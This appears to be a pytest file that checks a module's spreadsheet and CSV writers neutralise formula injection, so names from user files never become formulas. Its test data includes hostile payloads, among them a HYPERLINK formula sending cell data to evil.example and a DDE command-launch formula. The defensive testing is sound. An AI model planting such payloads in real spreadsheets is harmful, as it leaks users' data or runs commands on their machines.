"""solver.tabular: text from user files is never a formula in an XLSX or CSV output.

Each dangerous first character (``=``, ``+``, ``-``, ``@``, tab, CR) is written and the
file is read back the way a reviewer would: openpyxl for XLSX, the csv module for CSV.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest
from openpyxl import Workbook, load_workbook

from solver.tabular import FORMULA_PREFIXES, Sheet, csv_field, csv_text, xlsx_bytes, xlsx_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _reopen(data: bytes, title: str):
    return load_workbook(io.BytesIO(data))[title]


def test_openpyxl_alone_would_store_a_formula():
    """Why the module exists: plain assignment makes ``=...`` a formula cell."""
    ws = Workbook().active
    ws["A1"] = HOSTILE[0]
    assert ws["A1"].data_type == "f"


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_text_cell_is_a_string_with_the_visible_text(text):
    ws = _reopen(xlsx_bytes([Sheet("T", ["Nama"], [[text]])]), "T")
    cell = ws["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")
    assert cell.number_format == "@"


def test_xlsx_header_and_footer_are_guarded_too():
    ws = _reopen(xlsx_bytes([Sheet("T", ["=h"], [["x"]], footer=[[], ["", "=f"]])]), "T")
    assert (ws["A1"].value, ws["A1"].data_type) == ("=h", "s")
    assert ws["B4"].value == "=f" and ws["B4"].data_type == "s"
    assert ws.max_row == 4 and ws["A3"].value is None


def test_xlsx_numbers_stay_numbers_and_identifiers_keep_leading_zeros():
    nip = "012345678901234567"
    rows = [[nip, "007", 12, 3.5, np.int64(-4), None]]
    ws = _reopen(xlsx_bytes([Sheet("T", list("abcdef"), rows)]), "T")
    values = [c.value for c in ws[2]]
    assert values == [nip, "007", 12, 3.5, -4, None]
    assert [c.data_type for c in ws[2][:5]] == ["s", "s", "n", "n", "n"]
    assert ws["A2"].number_format == "@" and ws["C2"].number_format == "General"


def test_xlsx_characters_it_cannot_hold_do_not_break_the_file():
    ws = _reopen(xlsx_bytes([Sheet("T", ["a"], [["bel\x07 nul\x00"]])]), "T")
    assert ws["A2"].value == "bel\ufffd nul\ufffd"
    assert xlsx_text("a\r\nb\rc") == "a\nb\nc"


def test_xlsx_frozen_bold_header_and_column_widths():
    ws = _reopen(xlsx_bytes([Sheet("T", ["NIP", "Nama"], [["1" * 18, "x" * 100]])]), "T")
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.b and not ws["A2"].font.b
    assert ws.column_dimensions["A"].width == 20
    assert ws.column_dimensions["B"].width == 60


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_field_gets_one_quote_prefix(text):
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline="")))
    assert rows == [["name"], ["'" + text]]


def test_csv_numbers_and_safe_text_are_unchanged():
    text = csv_text(["rank", "nip", "name", "loss", "empty"],
                    [[1, "012345678901234567", "Budi", -7, None], [2, "1", "a=b", 0.5, ""]])
    assert text == ("rank,nip,name,loss,empty\n1,012345678901234567,Budi,-7,\n"
                    "2,1,a=b,0.5,\n")


def test_no_csv_field_starts_with_a_dangerous_character():
    rows = [[p + "x", p] for p in FORMULA_PREFIXES]
    for row in csv.reader(io.StringIO(csv_text([p for p in FORMULA_PREFIXES], rows),
                                      newline="")):
        assert not any(field.startswith(FORMULA_PREFIXES) for field in row)
    assert csv_field(True) == "True" and csv_field("'=x") == "'=x"


def test_a_carriage_return_inside_a_field_does_not_split_the_row():
    text = csv_text(["name", "unit"], [["Budi\rSantoso", "U"], ["Ani", "V"]])
    assert text.endswith("\n") and "\r\n" not in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "unit"], ["Budi\rSantoso", "U"], ["Ani", "V"]]


# Modules that serialise tables without solver.tabular, and why that is safe: none of
# these writes a file a person opens as a spreadsheet.
NOT_OUTPUTS = {
    "solver/tabular.py": "the writer itself",
    "solver/document.py": "input_hash serialises the validated tables to hash them; no file",
    "solver/generate/engine.py": "writes the generator's synthetic input tables (no user text)",
    "solver/generate/siasn.py": "writes the generator's synthetic SIASN-style exports, input "
                                "for penata import siasn (no user text)",
    "api/files.py": "rows_to_csv stores a JSON upload as the input CSV Penata reads back",
    "solver/edits.py": "stores an edited input table as the CSV Penata reads back",
    "solver/importer/scenario_files.py": "writes the imported scenario's input tables, "
                                         "which load_scenario reads back as written",
}
_TABLE_WRITER = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(|\bWorkbook\("
                           r"|ExcelWriter|xlsxwriter")


def test_every_spreadsheet_and_csv_is_written_by_solver_tabular():
    """A new output written with csv.writer, to_csv/to_excel or openpyxl directly would
    let a name become a formula again: build the rows and call solver.tabular.csv_text
    or xlsx_bytes instead. A table Penata only reads back (never a download) may be
    listed in NOT_OUTPUTS with the reason."""
    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in sorted([*root.glob("solver/**/*.py"), *root.glob("api/**/*.py")]):
        relative = path.relative_to(root).as_posix()
        if relative not in NOT_OUTPUTS and _TABLE_WRITER.search(path.read_text("utf-8")):
            offenders.append(relative)
    assert offenders == [], "write these tables with solver.tabular: " + ", ".join(offenders)


def test_full_width_and_line_feed_prefixes_are_guarded_in_csv():
    for text in ("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\n=1+1"):
        assert csv_field(text) == "'" + text


def test_csv_for_excel_uses_crlf_and_quotes_line_breaks():
    text = csv_text(["a"], [["x\ry"], ["=1"]], line_end="\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a"], ["x\ry"], ["'=1"]]
    assert text.endswith("'=1\r\n")


def test_sheet_with_a_heading_fixed_widths_and_wrapped_rows():
    sheet = Sheet("T", ["No", "Nama"], [[1, "=Budi"]], footer=[[], ["", "=note"]],
                  preamble=[["=Judul"], []], widths=(5, 30), wrap=True)
    ws = _reopen(xlsx_bytes([sheet]), "T")
    assert (ws["A1"].value, ws["A1"].data_type, ws["A1"].font.sz) == ("=Judul", "s", 12)
    assert [c.value for c in ws[3]] == ["No", "Nama"] and ws["A3"].font.b
    assert (ws["B4"].value, ws["B4"].data_type) == ("=Budi", "s") and ws["B4"].alignment.wrap_text
    assert (ws["B6"].value, ws["B6"].data_type) == ("=note", "s")
    assert ws.freeze_panes == "A4" and ws.print_title_rows == "$3:$3"
    assert ws.column_dimensions["A"].width == 5 and ws.column_dimensions["B"].width == 30
